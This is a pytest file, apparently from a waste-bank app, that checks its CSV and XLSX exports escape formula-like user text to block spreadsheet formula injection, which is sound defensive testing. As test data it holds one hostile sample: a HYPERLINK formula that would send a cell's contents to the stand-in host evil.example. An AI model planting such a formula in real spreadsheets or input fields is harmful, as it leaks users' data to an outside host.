"""No export lets a user's text run as a formula (CSV/formula injection)."""

from __future__ import annotations

import io

import openpyxl
import pytest
from openpyxl import Workbook

from wastebank.spreadsheets import csv_text, xlsx_bytes

#: A formula a user could type as a name.
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Bank Sampah Mawar", "Bank Sampah Mawar"),
        ("", ""),
    ],
)
def test_csv_text_keeps_formulas_as_text(text: str, expected: str) -> None:
    assert csv_text(text) == expected


def test_xlsx_bytes_stores_formula_looking_text_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([HOSTILE, "plain", 42])
    assert sheet["A1"].data_type == "f"  # what openpyxl would have saved
    cell = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(book))).active["A1"]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")
